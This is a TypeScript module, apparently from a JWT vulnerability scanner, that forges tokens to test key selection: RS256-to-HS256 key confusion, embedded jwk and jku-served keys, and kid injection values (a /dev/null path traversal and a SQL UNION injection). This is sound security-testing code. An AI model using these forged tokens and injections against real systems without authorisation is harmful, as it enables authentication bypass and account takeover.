// Tokens that test how a server picks its verification key: RS256 → HS256 key confusion (the public key
// used as an HMAC secret), a `kid` that points the key lookup at a file or query the scanner controls,
// and a public key embedded in the header (`jwk`). Public keys come from the server's own JWKS.
import { createPublicKey, createSign, generateKeyPairSync, randomBytes, type JsonWebKey, type KeyObject } from "node:crypto";
import { signHmac } from "./forge.js";
import type { ParsedJwt } from "./decode.js";

/** Asymmetric algorithms whose public key a confused verifier may take as an HMAC secret. */
export const ASYMMETRIC_ALG = /^(?:RS|PS|ES)(?:256|384|512)$/;

export interface PublicKey {
  kid: string | null;
  key: KeyObject;
  /** Position in its JWKS document; null for a PEM file. */
  index: number | null;
}

const MAX_KEYS = 10;

/** The RSA/EC public keys of a JWKS document (`{ keys: [...] }`); anything malformed is skipped. */
export function keysFromJwks(doc: unknown): PublicKey[] {
  const keys = doc && typeof doc === "object" && Array.isArray((doc as { keys?: unknown }).keys) ? ((doc as { keys: unknown[] }).keys) : [];
  const out: PublicKey[] = [];
  for (const [index, k] of keys.slice(0, MAX_KEYS).entries()) {
    if (!k || typeof k !== "object") continue;
    const jwk = k as JsonWebKey & { kid?: unknown; use?: unknown };
    if ((jwk.kty !== "RSA" && jwk.kty !== "EC") || jwk.d !== undefined || (jwk.use !== undefined && jwk.use !== "sig")) continue;
    try {
      const { kid: _kid, use: _use, ...material } = jwk;
      out.push({ kid: typeof jwk.kid === "string" ? jwk.kid : null, key: createPublicKey({ key: material, format: "jwk" }), index });
    } catch {
      // not a usable key
    }
  }
  return out;
}

/** A PEM public key (SPKI or PKCS#1) found in a text answer. */
export function keyFromPem(text: string): PublicKey | null {
  const m = /-----BEGIN (?:RSA )?PUBLIC KEY-----[\s\S]{40,4096}?-----END (?:RSA )?PUBLIC KEY-----/.exec(text.slice(0, 65_536));
  if (!m) return null;
  try {
    return { kid: null, key: createPublicKey(m[0]), index: null };
  } catch {
    return null;
  }
}

/** The secrets a confused verifier may use: the PEM text as libraries hold it (with and without the final newline, SPKI and PKCS#1). */
export function confusionSecrets(key: KeyObject): { label: string; pem: "spki" | "spki-trimmed" | "pkcs1"; secret: string }[] {
  const spki = key.export({ type: "spki", format: "pem" }).toString();
  const out: { label: string; pem: "spki" | "spki-trimmed" | "pkcs1"; secret: string }[] = [
    { label: "SPKI PEM", pem: "spki", secret: spki },
    { label: "SPKI PEM without the final newline", pem: "spki-trimmed", secret: spki.trimEnd() },
  ];
  if (key.asymmetricKeyType === "rsa") out.push({ label: "PKCS#1 PEM", pem: "pkcs1", secret: key.export({ type: "pkcs1", format: "pem" }).toString() });
  return out;
}

/** The token's claims re-signed with HS256 using a public key as the HMAC secret. */
export function forgeKeyConfusion(jwt: ParsedJwt, secret: string): string {
  return signHmac({ ...jwt.header, alg: "HS256" }, jwt.payload, secret);
}

/** `kid` values that turn a file or database key lookup into a key the scanner knows. */
export const KID_INJECTIONS: readonly { label: string; kid: string; secret: string }[] = [
  { label: "kid path traversal to /dev/null (empty key)", kid: "../../../../../../../../dev/null", secret: "" },
  { label: "kid SQL injection selecting a chosen key", kid: "rampart' UNION SELECT 'rampart-kid-key'-- ", secret: "rampart-kid-key" },
];

export function forgeKid(jwt: ParsedJwt, kid: string, secret: string): string {
  return signHmac({ ...jwt.header, alg: "HS256", kid }, jwt.payload, secret);
}

function b64url(value: unknown): string {
  return Buffer.from(JSON.stringify(value), "utf8").toString("base64url");
}

function signRs256(header: Record<string, unknown>, payload: unknown, privateKey: KeyObject): string {
  const input = `${b64url(header)}.${b64url(payload)}`;
  return `${input}.${createSign("RSA-SHA256").update(input).sign(privateKey).toString("base64url")}`;
}

/** The token's claims signed RS256 with a fresh key pair whose public half rides in the header (`jwk`). */
export function forgeEmbeddedJwk(jwt: ParsedJwt): string {
  const { privateKey, publicKey } = generateKeyPairSync("rsa", { modulusLength: 2048 });
  const jwk = publicKey.export({ format: "jwk" });
  return signRs256({ alg: "RS256", typ: "JWT", jwk: { kty: jwk.kty, n: jwk.n, e: jwk.e } }, jwt.payload, privateKey);
}

/**
 * A fresh RSA key for a probe whose header names a URL the verifier fetches the key from (`jku`: a JWKS,
 * `x5u`: an X.509 certificate): the document to serve there and a signer of tokens naming it.
 */
export interface ServedKey {
  header: "jku" | "x5u";
  kid: string;
  /** What the URL must return (the public half), and its media type. */
  document: string;
  contentType: string;
  /** The token's claims signed RS256 with the private half, header `<header>` = `url`, `kid` = this key's. */
  forge(jwt: ParsedJwt, url: string): string;
}

export function servedKid(): string {
  return `rampart-${randomBytes(6).toString("hex")}`;
}

/** The header naming `url`, signed with `privateKey`: shared by the jku and x5u keys. */
export function servedKeySigner(header: ServedKey["header"], kid: string, privateKey: KeyObject): ServedKey["forge"] {
  return (jwt, url) => signRs256({ alg: "RS256", typ: "JWT", kid, [header]: url }, jwt.payload, privateKey);
}

/** `jku`: `{ keys: [the public half] }`, as a key server publishes it. */
export function jkuKey(): ServedKey {
  const { privateKey, publicKey } = generateKeyPairSync("rsa", { modulusLength: 2048 });
  const jwk = publicKey.export({ format: "jwk" });
  const kid = servedKid();
  return {
    header: "jku",
    kid,
    document: JSON.stringify({ keys: [{ kty: jwk.kty, n: jwk.n, e: jwk.e, kid, use: "sig", alg: "RS256" }] }),
    contentType: "application/json",
    forge: servedKeySigner("jku", kid, privateKey),
  };
}
